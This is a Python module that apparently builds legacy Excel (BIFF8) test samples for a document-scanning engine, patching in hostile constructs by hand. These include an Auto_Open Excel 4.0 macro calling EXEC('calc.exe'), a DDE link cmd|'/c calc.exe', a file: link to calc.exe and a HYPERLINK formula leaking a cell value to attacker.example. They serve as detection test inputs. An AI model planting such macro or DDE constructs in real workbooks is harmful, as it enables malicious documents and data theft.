"""Excel 97-2003 samples: sources LibreOffice converts to .xls, and the records patched in by hand
where LibreOffice cannot write a construct (macro sheets, Auto_Open, DDE and external links,
macro functions, veryHidden, furigana, shape macros, ActiveX). Used by legacy_samples.py.

The BIFF8 patching here is deliberately simple and separate from the engine's walker, so that a
bug in the engine cannot make its own test inputs agree with it.
"""
from __future__ import annotations

import io
import struct
from pathlib import Path

BOF, EOF, BOUNDSHEET, SST, EXTSST, NAME, SUPBOOK, EXTERNSHEET, EXTERNNAME, FORMULA, STRING, OBJ = \
    0x809, 0x0A, 0x85, 0xFC, 0xFF, 0x18, 0x1AE, 0x17, 0x23, 0x06, 0x207, 0x5D

# --- sources LibreOffice converts ------------------------------------------------------------


def make_rich_xlsx(path: Path, hostile: bool = False) -> None:
    """A form-like workbook: styles, merged cells, widths and heights, formulas, picture, chart, comment,
    validation, conditional format, first-page header, a web link and a hidden sheet.
    hostile: a file: link as well, and a sheet to be made veryHidden."""
    import openpyxl
    from openpyxl.chart import BarChart, Reference
    from openpyxl.comments import Comment
    from openpyxl.drawing.image import Image as XImage
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.worksheet.datavalidation import DataValidation
    from PIL import Image

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "申請一覧"
    ws.append(["番号", "氏名", "区分", "件数", "手数料"])
    for i in range(1, 21):
        ws.append([i, f"山田{i}", ("住民票", "印鑑証明", "戸籍謄本")[i % 3], i % 5 + 1, f"=D{i + 1}*300"])
    ws["A23"], ws["D23"], ws["E23"] = "合計", "=SUM(D2:D21)", "=SUM(E2:E21)"
    ws.merge_cells("A25:E25")
    ws["A25"] = "千代田区役所 区民課"
    ws["A25"].alignment = Alignment(horizontal="center")
    ws["A1"].font = Font(bold=True, size=14, color="C00000")
    ws["B1"].fill = PatternFill("solid", fgColor="FFFF99")
    thin = Side(style="thin")
    for c in "ABCDE":
        ws[f"{c}1"].border = Border(left=thin, right=thin, top=thin, bottom=thin)
    ws.column_dimensions["B"].width = 18
    ws.row_dimensions[3].height = 30
    ws["G2"] = "市のホームページ"
    ws["G2"].hyperlink = "https://www.city.example.lg.jp/"
    ws["B2"].comment = Comment("確認済み", "区民課")
    dv = DataValidation(type="whole", operator="between", formula1="1", formula2="10")
    ws.add_data_validation(dv)
    dv.add("D2:D21")
    ws.conditional_formatting.add("D2:D21", CellIsRule(operator="greaterThan", formula=["4"],
                                                       fill=PatternFill("solid", bgColor="FFC7CE")))
    ws.oddHeader.center.text = "申請一覧 &P / &N"
    ws.oddFooter.right.text = "区民課"
    ws.HeaderFooter.differentFirst = True
    ws.firstHeader.center.text = "表紙"
    buf = io.BytesIO()
    Image.new("RGB", (60, 40), (30, 120, 200)).save(buf, "PNG")
    buf.seek(0)
    ws.add_image(XImage(buf), "H5")
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=4, min_row=1, max_row=11), titles_from_data=True)
    ws.add_chart(chart, "H12")
    hidden = wb.create_sheet("控え")
    hidden["A1"] = "非表示のシート"
    hidden.sheet_state = "hidden"
    if hostile:
        ws["G3"] = "電卓"
        ws["G3"].hyperlink = "file:///C:/Windows/System32/calc.exe"
        secret = wb.create_sheet("設定")
        secret["A1"] = "隠された設定"
    wb.save(str(path))


def object_ods_body() -> str:
    """An ODS sheet holding an embedded text document with a preview picture (LibreOffice writes an MBD storage)."""
    return ('<table:table table:name="台帳"><table:shapes>'
            '<draw:frame draw:name="obj1" svg:width="4cm" svg:height="2cm" svg:x="1cm" svg:y="2cm">'
            '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
            '</draw:frame></table:shapes><table:table-row><table:table-cell office:value-type="string">'
            "<text:p>埋め込み文書つき台帳</text:p></table:table-cell></table:table-row></table:table>")


def form_ods_body() -> str:
    """An ODS sheet with a check box form control (LibreOffice writes an OBJ check box)."""
    return ('<table:table table:name="様式"><office:forms><form:form form:name="F">'
            '<form:checkbox form:name="chk" form:id="c1" form:label="同意する"/></form:form></office:forms>'
            '<table:shapes><draw:control draw:control="c1" svg:width="3cm" svg:height="0.8cm" svg:x="1cm" '
            'svg:y="1cm"/></table:shapes><table:table-row><table:table-cell office:value-type="string">'
            "<text:p>同意欄</text:p></table:table-cell></table:table-row></table:table>")


# --- BIFF8 records, read and written plainly --------------------------------------------------


def records(stream: bytes) -> list[list]:
    out, pos = [], 0
    while pos + 4 <= len(stream):
        rt, size = struct.unpack_from("<HH", stream, pos)
        out.append([rt, stream[pos + 4:pos + 4 + size]])
        pos += 4 + size
        if rt == EOF and pos + 4 <= len(stream) and stream[pos:pos + 4] == b"\0\0\0\0":
            break
    return out


def serialize(recs: list[list]) -> bytes:
    """Records to bytes; BOUNDSHEET positions set to the sheet BOFs in order; EXTSST left out."""
    recs = [r for r in recs if r[0] != EXTSST]
    out, bound_at, sheet_bofs, depth, in_globals = bytearray(), [], [], 0, True
    for rt, body in recs:
        if rt == BOF:
            if depth == 0 and not in_globals:
                sheet_bofs.append(len(out))
            depth += 1
        if rt == BOUNDSHEET:
            bound_at.append(len(out) + 4)
        out += struct.pack("<HH", rt, len(body)) + body
        if rt == EOF:
            depth -= 1
            if depth == 0:
                in_globals = False
    for at, pos in zip(bound_at, sheet_bofs, strict=True):
        struct.pack_into("<I", out, at, pos)
    return bytes(out)


def _globals_end(recs: list[list]) -> int:
    return next(i for i, r in enumerate(recs) if r[0] == EOF)


def _insert_before(recs: list[list], types: tuple[int, ...], new: list[list]) -> None:
    """Insert `new` into the globals before the first record of `types` (or before the globals' EOF)."""
    end = _globals_end(recs)
    at = next((i for i, r in enumerate(recs[:end]) if r[0] in types), end)
    recs[at:at] = new


def _sheet_range(recs: list[list], n: int) -> tuple[int, int]:
    """Index range [BOF, EOF] of the n-th sheet substream (the globals come before sheet 0)."""
    depth, k, start = 0, -2, 0
    for i, (rt, _b) in enumerate(recs):
        if rt == BOF:
            if depth == 0:
                k += 1
                start = i
            depth += 1
        elif rt == EOF:
            depth -= 1
            if depth == 0 and k == n:
                return start, i
    raise ValueError("no such sheet")


def _ushort_str(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<BB", len(raw) // 2, 1) + raw


def _xlstr(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<HB", len(raw) // 2, 1) + raw


def _formula(row: int, col: int, rgce: bytes, value: bytes) -> list:
    return [FORMULA, struct.pack("<HHH", row, col, 0x0F) + value + struct.pack("<HI", 0x0002, 0)
            + struct.pack("<H", len(rgce)) + rgce]


def _num(v: float) -> bytes:
    return struct.pack("<d", v)


def _str_result() -> bytes:
    return b"\x00\x00\x00\x00\x00\x00\xff\xff"


def _ptg_str(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<BBB", 0x17, len(raw) // 2, 1) + raw


def _add_cells(recs: list[list], sheet: int, cells: list[list]) -> None:
    """Add cell records to a sheet, before its WINDOW2, and widen DIMENSIONS to the rows used."""
    start, end = _sheet_range(recs, sheet)
    at = next((i for i in range(start, end) if recs[i][0] == 0x23E), end)
    recs[at:at] = cells
    rows = [struct.unpack_from("<H", c[1], 0)[0] for c in cells if c[0] in (FORMULA, 0x203, 0xFD, 0x204)]
    for i in range(start, end):
        if recs[i][0] == 0x200 and rows:
            first, last, c0, c1, res = struct.unpack("<IIHHH", recs[i][1])
            recs[i][1] = struct.pack("<IIHHH", first, max(last, max(rows) + 1), c0, max(c1, 2), res)
            break


# --- hostile and benign variants --------------------------------------------------------------


def macros_everywhere(workbook: bytes) -> bytes:
    """An Excel 4.0 macro sheet (hidden) running EXEC, Auto_Open pointing at it, an Auto_Close name
    and the OBPROJ record that says a VBA project exists."""
    recs = records(workbook)
    if any(r[0] in (SUPBOOK, EXTERNSHEET, NAME) for r in recs):
        raise ValueError("the base workbook already has names or links")
    nsheets = sum(1 for r in recs if r[0] == BOUNDSHEET)
    last_bound = max(i for i, r in enumerate(recs) if r[0] == BOUNDSHEET)
    recs.insert(last_bound + 1, [BOUNDSHEET, struct.pack("<IBB", 0, 1, 1) + _ushort_str("Macro1")])
    xti = [SUPBOOK, struct.pack("<HH", nsheets + 1, 0x0401)], \
        [EXTERNSHEET, struct.pack("<HHHH", 1, 0, nsheets, nsheets)]
    ref = struct.pack("<BHHH", 0x3A, 0, 0, 0)  # Macro1!$A$1
    auto_open = [NAME, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, len(ref), 0, 0, 0, 0, 0, 0) + b"\x00\x01" + ref]
    auto_close = [NAME, struct.pack("<HBBHHHBBBB", 0x0008, 0, 10, len(ref), 0, 0, 0, 0, 0, 0) + b"\x00Auto_Close"
                  + ref]
    _insert_before(recs, (NAME, 0xEB, SST), [*xti, auto_open, auto_close])
    _insert_before(recs, (0x3D,), [[0xD3, b""]])  # OBPROJ, before WINDOW1
    exec_calc = _ptg_str("calc.exe") + struct.pack("<BBH", 0x42, 1, 110)  # EXEC("calc.exe")
    halt = struct.pack("<BH", 0x41, 54)  # HALT()
    macro = [[BOF, struct.pack("<HHHHII", 0x0600, 0x0040, 0x0DBB, 0x07CC, 0, 6)],
             [0x200, struct.pack("<IIHHH", 0, 2, 0, 1, 0)],
             _formula(0, 0, exec_calc, _num(0)), _formula(1, 0, halt, _num(0)),
             [0x23E, struct.pack("<HHHHH", 0x06B6, 0, 0, 0x40, 0) + b"\0" * 8], [EOF, b""]]
    return serialize(recs + macro)


def links_and_functions(workbook: bytes) -> bytes:
    """Formulas through a link to another workbook, a DDE link (=cmd|'/c calc'!A0), EXEC, and HYPERLINK with a
    computed target, each with a cached value; one web HYPERLINK that stays."""
    recs = records(workbook)
    if any(r[0] in (SUPBOOK, EXTERNSHEET) for r in recs):
        raise ValueError("the base workbook already has links")
    path = "\x01C:\\secret\\予算.xls"
    ext = [SUPBOOK, struct.pack("<HH", 1, len(path)) + _xlstr(path)[2:] + _xlstr("Sheet1")]
    dde_path = "cmd\x03/c calc.exe"
    dde = [SUPBOOK, struct.pack("<HH", 0, len(dde_path)) + _xlstr(dde_path)[2:]]
    dde_name = [EXTERNNAME, struct.pack("<HI", 0, 0) + _ushort_str("A0")]
    xtis = [EXTERNSHEET, struct.pack("<H", 2) + struct.pack("<HHH", 0, 0, 0) + struct.pack("<HHH", 1, 0xFFFE, 0xFFFE)]
    _insert_before(recs, (NAME, 0xEB, SST), [ext, dde, dde_name, xtis])
    ref_ext = struct.pack("<BHHH", 0x3A, 0, 0, 0)  # [予算.xls]Sheet1!A1
    dde_ref = struct.pack("<BHHH", 0x39, 1, 1, 0)  # cmd|'/c calc.exe'!A0
    exec_calc = _ptg_str("calc.exe") + struct.pack("<BBH", 0x42, 1, 110)
    computed = (_ptg_str("http://attacker.example/?") + struct.pack("<BHH", 0x24, 0, 0) + b"\x08"
                + _ptg_str("申請") + struct.pack("<BBH", 0x42, 2, 359))
    web = _ptg_str("https://www.city.example.lg.jp/") + _ptg_str("市HP") + struct.pack("<BBH", 0x42, 2, 359)
    _add_cells(recs, 0, [
        _formula(5, 1, ref_ext, _num(100)), _formula(6, 1, dde_ref, _num(42)), _formula(7, 1, exec_calc, _num(7)),
        _formula(8, 1, computed, _str_result()), [STRING, _xlstr("申請")],
        _formula(9, 1, web, _str_result()), [STRING, _xlstr("市HP")],
    ])
    return serialize(recs)


def very_hidden(workbook: bytes, sheet_name: str) -> bytes:
    recs = records(workbook)
    for r in recs:
        if r[0] == BOUNDSHEET and r[1][8:].decode("utf-16-le", "replace") == sheet_name:
            r[1] = r[1][:4] + b"\x02" + r[1][5:]
    return serialize(recs)


def with_furigana(workbook: bytes) -> bytes:
    """Phonetic guides (furigana) on the names 山田N in the shared strings, and the sheet's PHONETIC record."""
    recs = records(workbook)
    i = next(k for k, r in enumerate(recs) if r[0] == SST)
    if i + 1 < len(recs) and recs[i + 1][0] == 0x3C:
        raise ValueError("sample SST unexpectedly continued")
    body = recs[i][1]
    total, unique = struct.unpack_from("<II", body, 0)
    pos, out = 8, bytearray(body[:8])
    for _ in range(unique):
        cch, flags = struct.unpack_from("<HB", body, pos)
        head = 3
        runs = struct.unpack_from("<H", body, pos + head)[0] if flags & 8 else 0
        head += 2 if flags & 8 else 0
        ext = struct.unpack_from("<I", body, pos + head)[0] if flags & 4 else 0
        head += 4 if flags & 4 else 0
        width = 2 if flags & 1 else 1
        chars = body[pos + head:pos + head + cch * width]
        text = chars.decode("utf-16-le" if width == 2 else "latin-1")
        tail = body[pos + head + cch * width:pos + head + cch * width + 4 * runs + ext]
        pos += head + cch * width + 4 * runs + ext
        if text.startswith("山田") and not flags & 4:
            yomi = "ヤマダ".encode("utf-16-le")
            rest = struct.pack("<HH", 0, 0x0001) + struct.pack("<HHH", 1, 3, 3) + yomi + struct.pack("<HHH", 0, 0, 2)
            ext_rst = struct.pack("<HH", 1, len(rest)) + rest
            out += struct.pack("<HB", cch, flags | 4) + (struct.pack("<H", runs) if flags & 8 else b"")
            out += struct.pack("<I", len(ext_rst)) + chars + tail + ext_rst
        else:
            out += body[pos - (head + cch * width + 4 * runs + ext):pos]
    recs[i][1] = bytes(out)
    start, end = _sheet_range(recs, 0)
    at = next(k for k in range(start, end) if recs[k][0] == 0x23E)
    recs.insert(at, [0xEF, struct.pack("<HH", 0, 0x0001) + struct.pack("<HHHHH", 1, 1, 20, 1, 1)])
    return serialize(recs)


def shape_macro(workbook: bytes) -> bytes:
    """A macro assigned to the check box (ftMacro), as Excel writes for a button with a macro."""
    recs = records(workbook)
    for r in recs:
        if r[0] == OBJ and len(r[1]) >= 22:
            macro = struct.pack("<HH", 0x04, 14) + struct.pack("<HHI", 12, 5, 0) + b"\x23\x01\x00\x00\x00\x00"
            r[1] = r[1][:22] + macro + r[1][22:]
            break
    return serialize(recs)
